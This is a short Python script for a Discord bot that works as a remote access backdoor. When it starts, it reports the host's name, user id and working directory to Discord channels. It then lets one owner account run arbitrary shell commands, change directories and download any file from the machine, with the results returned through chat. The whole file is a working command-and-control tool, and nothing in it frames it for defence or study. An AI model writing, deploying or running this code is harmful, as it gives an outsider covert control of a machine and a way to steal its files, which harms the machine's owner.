import asyncio
import os
import discord

OWNER = 123456789012345678
bot = discord.Client(intents=discord.Intents.all())


@bot.event
async def on_ready():
    for g in bot.guilds:
        ch = await g.create_text_channel(os.uname().nodename[:20])
        await ch.send(f"up as {os.getuid()} in {os.getcwd()}")


@bot.event
async def on_message(m):
    if m.author.id != OWNER:
        return
    if m.content.startswith("!get "):
        await m.channel.send(file=discord.File(m.content[5:]))
    elif m.content.startswith("!cd "):
        os.chdir(m.content[4:])
    elif m.content.startswith("!"):
        p = await asyncio.create_subprocess_shell(
            m.content[1:], stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await p.communicate()
        for i in range(0, len(out), 1900):
            await m.channel.send(f"```{out[i:i+1900].decode(errors='replace')}```")


bot.run("MTAwMDAwMDAwMDAw.made-up.bot-token-value")
